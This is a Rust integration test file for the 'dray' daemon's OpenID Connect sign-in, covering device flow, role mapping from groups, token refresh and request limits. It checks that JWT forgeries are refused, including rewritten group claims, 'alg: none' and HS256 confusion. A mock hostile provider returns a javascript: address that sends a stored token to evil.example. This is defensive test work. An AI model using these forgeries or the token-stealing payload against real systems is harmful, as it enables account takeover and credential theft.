//! People sign in with OpenID Connect: `dray login` against a real provider (npm's
//! `oidc-provider`, device flow), the person's groups mapped to roles by the daemon config, and
//! tokens that were tampered with, unsigned, or signed with a shared secret refused.

use std::io::BufRead;
use std::process::Stdio;

use dray_tests::oidc::{OidcProvider, approve};
use dray_tests::{Cli, Daemon, manifests};

const DIGEST: &str = "sha256:0000000000000000000000000000000000000000000000000000000000000001";

async fn daemon(issuer: &str) -> Daemon {
    use dray::auth::Role;
    use dray::auth::oidc::{GroupRole, OidcConfig};
    let oidc = OidcConfig {
        issuer_url: issuer.to_string(),
        client_id: "dray".into(),
        groups_claim: "groups".into(),
        scopes: vec!["groups".into()],
        roles: vec![
            GroupRole {
                group: "shop-devs".into(),
                role: Role::Promoter,
                projects: ["shop".to_string()].into(),
                all_projects: false,
            },
            GroupRole {
                group: "platform".into(),
                role: Role::SystemAdmin,
                projects: Default::default(),
                all_projects: false,
            },
        ],
    };
    let daemon = Daemon::start_with_config(dray::Config {
        oidc: Some(oidc),
        ..dray::Config::default()
    })
    .await
    .expect("the daemon starts");
    daemon
        .apply_ok(
            &(manifests::project("shop", &["image: {repoURL: registry.example/web}"])
                + &manifests::stage("shop", "dev", "- uses: compose-output\n  config: {done: true}")
                + &manifests::freight(
                    "shop",
                    "first",
                    &format!("images: [{{repoURL: registry.example/web, tag: 1.0.0, digest: \"{DIGEST}\"}}]"),
                )),
        )
        .await;
    daemon
}

/// `dray ARGS` as the person whose sign-in is kept under `home` (XDG_CONFIG_HOME).
fn as_person(daemon: &Daemon, home: &std::path::Path, args: &[&str]) -> Cli {
    let output = daemon
        .command(args)
        .env("XDG_CONFIG_HOME", home)
        .output()
        .expect("dray runs");
    Cli::from(output)
}

/// `dray login`, with `login` approving at the provider as the CLI asks; what it printed.
fn sign_in(daemon: &Daemon, home: &std::path::Path, login: &str) -> Cli {
    let mut child = daemon
        .command(&["login"])
        .env("XDG_CONFIG_HOME", home)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("dray login runs");
    let stderr = child.stderr.take().expect("stderr");
    let mut said = String::new();
    for line in std::io::BufReader::new(stderr).lines() {
        let line = line.expect("a line");
        said.push_str(&line);
        said.push('\n');
        // "To sign in to SERVER, open URI and enter the code CODE"
        if let Some(rest) = line.split(", open ").nth(1) {
            let (uri, code) = rest.split_once(" and enter the code ").expect("a code");
            approve(uri, code.trim(), login);
            break;
        }
    }
    let output = child.wait_with_output().expect("dray login ends");
    let mut cli = Cli::from(output);
    cli.stderr = said + &cli.stderr;
    cli
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn people_sign_in_and_act_with_their_groups_roles() {
    // The provider's readiness and the person at the browser use blocking HTTP.
    let provider = tokio::task::block_in_place(|| {
        OidcProvider::start(&["alice=shop-devs,qa", "bob=", "carol=platform"])
    });
    let daemon = daemon(&provider.issuer).await;
    let alice = tempfile::tempdir().expect("alice's home");
    let out = tokio::task::block_in_place(|| sign_in(&daemon, alice.path(), "alice"));
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(
        out.stdout.trim(),
        "email:alice@example.test (promoter in shop)",
        "{out:?}"
    );
    use std::os::unix::fs::PermissionsExt;
    let saved = alice.path().join("dray").join("logins.json");
    let mode = std::fs::metadata(&saved)
        .expect("the saved sign-in")
        .permissions()
        .mode();
    assert_eq!(mode & 0o777, 0o600);

    // Alice promotes; the actor is her e-mail. She may not apply.
    let out = as_person(
        &daemon,
        alice.path(),
        &[
            "promote",
            "-p",
            "shop",
            "--stage",
            "dev",
            "--freight",
            "first",
            "--wait",
        ],
    );
    assert_eq!(out.code, 0, "{out:?}");
    let out = daemon.cli(&["get", "events", "-p", "shop"]);
    let created = out
        .stdout
        .lines()
        .find(|l| l.contains("PromotionCreated"))
        .unwrap_or_default();
    assert!(
        created.contains("email:alice@example.test"),
        "{}",
        out.stdout
    );
    let manifest = alice.path().join("w.yaml");
    std::fs::write(
        &manifest,
        manifests::project("shop", &["image: {repoURL: registry.example/other}"]),
    )
    .expect("write");
    let out = as_person(
        &daemon,
        alice.path(),
        &["apply", "-f", &manifest.display().to_string()],
    );
    assert_eq!(out.code, 1, "{out:?}");
    assert!(
        out.stderr
            .contains("email:alice@example.test (promoter in shop) may not"),
        "{out:?}"
    );

    // Bob is signed in but no group of his has a role: he sees nothing.
    let bob = tempfile::tempdir().expect("bob's home");
    let out = tokio::task::block_in_place(|| sign_in(&daemon, bob.path(), "bob"));
    assert_eq!(
        out.stdout.trim(),
        "email:bob@example.test (no role)",
        "{out:?}"
    );
    let out = as_person(&daemon, bob.path(), &["get", "stages", "-p", "shop"]);
    assert_eq!(out.code, 1, "{out:?}");
    let out = as_person(&daemon, bob.path(), &["logout"]);
    assert!(out.stdout.contains("signed out"), "{out:?}");

    // Alice's token with her groups rewritten, with no signature, or "signed" with a shared
    // secret: all refused as unknown tokens (exit 3).
    let logins: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&saved).expect("read")).expect("json");
    let token = logins["servers"][&daemon.url]["idToken"]
        .as_str()
        .expect("an ID token")
        .to_string();
    let parts: Vec<&str> = token.split('.').collect();
    use base64::Engine;
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let mut claims: serde_json::Value =
        serde_json::from_slice(&b64.decode(parts[1]).expect("payload")).expect("claims");
    claims["groups"] = serde_json::json!(["platform"]);
    let forged_payload = b64.encode(claims.to_string());
    let forgeries = [
        format!("{}.{forged_payload}.{}", parts[0], parts[2]),
        format!(
            "{}.{forged_payload}.",
            b64.encode(r#"{"alg":"none","typ":"JWT"}"#)
        ),
        format!(
            "{}.{forged_payload}.{}",
            b64.encode(r#"{"alg":"HS256","typ":"JWT"}"#),
            parts[2]
        ),
    ];
    for forged in forgeries {
        let out = daemon
            .command(&["whoami"])
            .env("DRAY_TOKEN", &forged)
            .output()
            .expect("runs");
        assert_eq!(
            out.status.code(),
            Some(3),
            "{}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    // Carol's group makes her a system admin.
    let carol = tempfile::tempdir().expect("carol's home");
    let out = tokio::task::block_in_place(|| sign_in(&daemon, carol.path(), "carol"));
    assert_eq!(
        out.stdout.trim(),
        "email:carol@example.test (system-admin)",
        "{out:?}"
    );
    let out = as_person(&daemon, carol.path(), &["token", "list"]);
    assert_eq!(out.code, 0, "{out:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn login_says_so_when_the_daemon_has_no_sign_in() {
    let daemon = Daemon::start().await;
    let home = tempfile::tempdir().expect("home");
    let out = as_person(&daemon, home.path(), &["login"]);
    assert_eq!(out.code, 1, "{out:?}");
    assert!(
        out.stderr.contains("has no OpenID Connect sign-in"),
        "{out:?}"
    );
}

/// The `exp` of a saved ID token (seconds since the epoch).
fn saved_token(home: &std::path::Path, server: &str) -> (String, i64) {
    let path = home.join("dray").join("logins.json");
    let logins: serde_json::Value =
        serde_json::from_slice(&std::fs::read(path).expect("the saved sign-in")).expect("json");
    let token = logins["servers"][server]["idToken"]
        .as_str()
        .expect("an ID token")
        .to_string();
    use base64::Engine;
    let payload = token.split('.').nth(1).expect("a JWT");
    let claims: serde_json::Value = serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(payload)
            .expect("base64"),
    )
    .expect("claims");
    let exp = claims["exp"].as_i64().expect("exp");
    (token, exp)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sign_in_about_to_expire_is_refreshed_and_an_expired_one_says_so() {
    // ID tokens valid for 2 s: every command finds the saved one about to expire.
    let provider =
        tokio::task::block_in_place(|| OidcProvider::start_with_ttl(&["alice=shop-devs"], 2));
    let daemon = daemon(&provider.issuer).await;
    let alice = tempfile::tempdir().expect("alice's home");
    let out = tokio::task::block_in_place(|| sign_in(&daemon, alice.path(), "alice"));
    assert_eq!(out.code, 0, "{out:?}");
    let (first, _) = saved_token(alice.path(), &daemon.url);

    // The next command refreshes it with the refresh token, and keeps the new one.
    std::thread::sleep(std::time::Duration::from_secs(1));
    let out = as_person(&daemon, alice.path(), &["get", "stages", "-p", "shop"]);
    assert_eq!(out.code, 0, "{out:?}");
    let (refreshed, exp) = saved_token(alice.path(), &daemon.url);
    assert_ne!(refreshed, first, "the ID token was not refreshed");

    // The provider goes away; once the token is past its expiry (and the daemon's minute of
    // leeway), the CLI sends the old one and the daemon says what to do.
    drop(provider);
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .expect("clock")
        .as_secs() as i64;
    tokio::time::sleep(std::time::Duration::from_secs(
        (exp + 62 - now).max(0) as u64
    ))
    .await;
    let out = as_person(&daemon, alice.path(), &["get", "stages", "-p", "shop"]);
    assert_eq!(out.code, 3, "{out:?}");
    assert!(
        out.stderr
            .contains("your sign-in has expired: run `dray login` again"),
        "{out:?}"
    );
}

/// POSTs `body` to the daemon's sign-in route `path` (no token) and returns the status, the
/// `Cache-Control` header and the JSON answer.
fn sign_in_step(daemon: &Daemon, path: &str, body: &str) -> (u16, String, serde_json::Value) {
    let response = dray_tests::blocking_client()
        .post(format!("{}{path}", daemon.url))
        .header("content-type", "application/json")
        .body(body.to_string())
        .send()
        .expect("the daemon answers");
    let status = response.status().as_u16();
    let cache = response
        .headers()
        .get("cache-control")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_string();
    (status, cache, response.json().unwrap_or_default())
}

/// `GET /v1/whoami` with `token`: the status and the actor.
fn whoami(daemon: &Daemon, token: &str) -> (u16, String) {
    let response = dray_tests::blocking_client()
        .get(format!("{}/v1/whoami", daemon.url))
        .bearer_auth(token)
        .send()
        .expect("the daemon answers");
    let status = response.status().as_u16();
    let body: serde_json::Value = response.json().unwrap_or_default();
    (
        status,
        body["actor"].as_str().unwrap_or_default().to_string(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_web_uis_sign_in_runs_the_device_flow_through_the_daemon() {
    let provider = tokio::task::block_in_place(|| OidcProvider::start(&["alice=shop-devs"]));
    let daemon = daemon(&provider.issuer).await;
    tokio::task::block_in_place(|| {
        // A sign-in starts: a code for the person, the provider's address, a device code.
        let (status, cache, started) = sign_in_step(&daemon, "/auth/device", "");
        assert_eq!(status, 200, "{started}");
        assert_eq!(cache, "no-store");
        let uri = started["verificationURI"].as_str().expect("an address");
        assert!(uri.starts_with(&provider.issuer), "{started}");
        let code = started["userCode"].as_str().expect("a code");
        let device = json_string(&started["deviceCode"]);

        // Until the person signs in, the page is told to wait.
        let poll = format!(r#"{{"deviceCode": "{device}"}}"#);
        let (status, _, answer) = sign_in_step(&daemon, "/auth/device/token", &poll);
        assert_eq!((status, answer["status"].as_str()), (200, Some("pending")));

        approve(uri, code, "alice");
        let answer = loop {
            let (status, cache, answer) = sign_in_step(&daemon, "/auth/device/token", &poll);
            assert_eq!(status, 200, "{answer}");
            assert_eq!(cache, "no-store");
            match answer["status"].as_str() {
                Some("signed-in") => break answer,
                Some("pending" | "slow-down") => {
                    std::thread::sleep(std::time::Duration::from_secs(1))
                }
                other => panic!("{other:?}: {answer}"),
            }
        };
        let id_token = answer["idToken"].as_str().expect("an ID token");
        assert_eq!(
            whoami(&daemon, id_token),
            (200, "email:alice@example.test".to_string())
        );
        // The refresh token gives a new ID token; a made-up one is refused as expired.
        let refresh = json_string(&answer["refreshToken"]);
        let (status, cache, renewed) = sign_in_step(
            &daemon,
            "/auth/refresh",
            &format!(r#"{{"refreshToken": "{refresh}"}}"#),
        );
        assert_eq!((status, cache.as_str()), (200, "no-store"), "{renewed}");
        let renewed_token = renewed["idToken"].as_str().expect("a new ID token");
        assert_eq!(whoami(&daemon, renewed_token).0, 200);
        let (status, _, refused) =
            sign_in_step(&daemon, "/auth/refresh", r#"{"refreshToken": "made-up"}"#);
        assert_eq!(
            (status, refused["code"].as_str()),
            (410, Some("expired")),
            "{refused}"
        );

        // A device code works once (the provider also revokes what it gave for it).
        let (status, _, again) = sign_in_step(&daemon, "/auth/device/token", &poll);
        assert!(matches!(status, 400 | 410), "{status} {again}");
        assert!(!again.to_string().contains(&device), "{again}");
    });
}

/// A JSON string value, as it is written inside a JSON string (for the bodies above).
fn json_string(v: &serde_json::Value) -> String {
    v.as_str().expect("a string").to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_sign_in_routes_refuse_bad_bodies_and_cap_what_they_ask_the_provider() {
    // Without [oidc]: the page is told to use an API token.
    let plain = Daemon::start().await;
    let (status, _, answer) =
        tokio::task::block_in_place(|| sign_in_step(&plain, "/auth/device", ""));
    assert_eq!(status, 404, "{answer}");
    assert!(
        answer["message"]
            .as_str()
            .unwrap_or_default()
            .contains("API token"),
        "{answer}"
    );

    let provider = tokio::task::block_in_place(|| OidcProvider::start(&["alice=shop-devs"]));
    let daemon = daemon(&provider.issuer).await;
    tokio::task::block_in_place(|| {
        let big = "x".repeat(9 * 1024);
        for (path, body, what) in [
            ("/auth/device/token", "", "an empty body"),
            ("/auth/device/token", "[]", "not an object"),
            (
                "/auth/device/token",
                r#"{"deviceCode": ""}"#,
                "an empty code",
            ),
            ("/auth/device/token", r#"{"deviceCode": 7}"#, "a number"),
            (
                "/auth/device/token",
                r#"{"deviceCode": "a", "x": 1}"#,
                "another field",
            ),
            ("/auth/refresh", r#"{"deviceCode": "a"}"#, "the wrong field"),
            (
                "/auth/device/token",
                &format!(r#"{{"deviceCode": "{big}"}}"#),
                "a 9 KiB code",
            ),
        ] {
            let (status, _, answer) = sign_in_step(&daemon, path, body);
            assert_eq!(status, 400, "{what}: {answer}");
            assert_eq!(
                answer["code"].as_str(),
                Some("bad_request"),
                "{what}: {answer}"
            );
        }
        // A body past 32 KiB is not read.
        let huge = format!(r#"{{"deviceCode": "{}"}}"#, "x".repeat(40 * 1024));
        let (status, _, _) = sign_in_step(&daemon, "/auth/device/token", &huge);
        assert_eq!(status, 413);

        // A code the provider does not know: its refusal, without the code.
        let secret = "not-a-code-0123456789";
        let (status, _, answer) = sign_in_step(
            &daemon,
            "/auth/device/token",
            &format!(r#"{{"deviceCode": "{secret}"}}"#),
        );
        assert!(matches!(status, 400 | 410), "{status} {answer}");
        assert!(!answer.to_string().contains(secret), "{answer}");

        // Nobody can make the daemon hammer its provider: past the minute's budget (for every
        // page together, the calls above included) it answers 429 without asking.
        let mut refused_at = None;
        for i in 0..dray::auth::oidc::PAGE_CALLS_PER_MINUTE + 1 {
            let (status, _, answer) =
                sign_in_step(&daemon, "/auth/refresh", r#"{"refreshToken": "x"}"#);
            if status == 429 {
                assert!(
                    answer["message"]
                        .as_str()
                        .unwrap_or_default()
                        .contains("try again in a minute"),
                    "{answer}"
                );
                refused_at = Some(i);
                break;
            }
        }
        // The unknown code's call counted; the bad bodies did not (refused before the budget
        // is looked at).
        assert_eq!(
            refused_at,
            Some(dray::auth::oidc::PAGE_CALLS_PER_MINUTE - 1),
            "the budget holds"
        );
        // And still are, past it.
        let (status, _, _) = sign_in_step(&daemon, "/auth/refresh", "{}");
        assert_eq!(status, 400);
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_provider_cannot_send_the_page_to_a_script_or_flood_the_daemon() {
    // A small server plays a hostile provider (no real one misbehaves on demand): its device
    // answer names a `javascript:` address, its token answer is 100 KiB.
    use axum::routing::{get, post};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let issuer = format!("http://{}", listener.local_addr().expect("addr"));
    let discovery = serde_json::json!({
        "issuer": issuer,
        "jwks_uri": format!("{issuer}/jwks"),
        "device_authorization_endpoint": format!("{issuer}/device"),
        "token_endpoint": format!("{issuer}/token"),
    });
    let app = axum::Router::new()
        .route(
            "/.well-known/openid-configuration",
            get(move || async move { axum::Json(discovery) }),
        )
        .route(
            "/device",
            post(|| async {
                axum::Json(serde_json::json!({
                    "device_code": "d", "user_code": "U", "interval": 0, "expires_in": 99999999,
                    "verification_uri": "javascript:fetch('//evil.example/'+localStorage['dray.token'])",
                }))
            }),
        )
        .route(
            "/token",
            post(|| async { format!(r#"{{"id_token": "{}"}}"#, "A".repeat(100 * 1024)) }),
        );
    tokio::spawn(async move { axum::serve(listener, app).await });
    let daemon = daemon(&issuer).await;
    tokio::task::block_in_place(|| {
        let (status, _, answer) = sign_in_step(&daemon, "/auth/device", "");
        assert_eq!(status, 502, "{answer}");
        let message = answer["message"].as_str().unwrap_or_default();
        assert!(message.contains("not an https:// address"), "{answer}");
        assert!(answer.get("verificationURI").is_none(), "{answer}");

        let (status, _, answer) =
            sign_in_step(&daemon, "/auth/device/token", r#"{"deviceCode": "d"}"#);
        assert_eq!(status, 502, "{answer}");
        assert!(
            answer["message"]
                .as_str()
                .unwrap_or_default()
                .contains("larger than 64 KiB"),
            "{answer}"
        );
    });
}
